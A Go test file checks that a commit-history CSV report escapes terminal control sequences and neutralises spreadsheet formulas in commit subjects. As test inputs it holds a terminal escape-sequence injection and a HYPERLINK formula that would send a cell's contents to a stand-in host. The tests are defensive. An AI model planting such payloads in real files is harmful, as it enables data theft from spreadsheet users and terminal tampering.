package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestHistoryCSVSubjectOneLine: a commit's subject holding control
// characters (a terminal's escape sequences, a carriage return) and bytes
// that are not UTF-8 is written with Go's escapes, as the text report
// writes such a file name, not as it is to the terminal the CSV is
// printed on; a printable one, quotes and commas too, as it is.
func TestHistoryCSVSubjectOneLine(t *testing.T) {
	points := []HistoryPoint{
		{Commit: "a", Subject: "\x1b]0;PWNED\a\x1b[2Jfix\r\xff"},
		{Commit: "b", Subject: `say "hi", é`},
	}
	var buf bytes.Buffer
	if err := HistoryCSV(&buf, points); err != nil {
		t.Fatal(err)
	}
	for _, c := range buf.Bytes() {
		if c < 0x20 && c != '\n' || c == 0x7f {
			t.Fatalf("the CSV holds the control byte %#x:\n%q", c, buf.String())
		}
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`\x1b]0;PWNED\a\x1b[2Jfix\r\xff`, `say "hi", é`}
	for i, w := range want {
		if got := rows[i+1][9]; got != w {
			t.Errorf("subject %d: got %q, want %q", i, got, w)
		}
	}
}

// A subject that starts as a spreadsheet's formula is written as text, a
// ' before it, so that opening the CSV in a spreadsheet does not run a
// formula a commit message holds; other subjects are as they were.
func TestHistoryCSVNoFormula(t *testing.T) {
	subjects := []string{`=HYPERLINK("http://example.com/?"&A1,"fix")`, "+1 for the tests", "-flag renamed", "@bot merge", "fix =x", "'quoted"}
	var points []HistoryPoint
	for _, s := range subjects {
		points = append(points, HistoryPoint{Commit: "c", Subject: s})
	}
	var buf bytes.Buffer
	if err := HistoryCSV(&buf, points); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://example.com/?"&A1,"fix")`, "'+1 for the tests", "'-flag renamed", "'@bot merge", "fix =x", "'quoted"}
	for i, w := range want {
		if got := rows[i+1][9]; got != w {
			t.Errorf("subject %q: got %q, want %q", subjects[i], got, w)
		}
	}
}
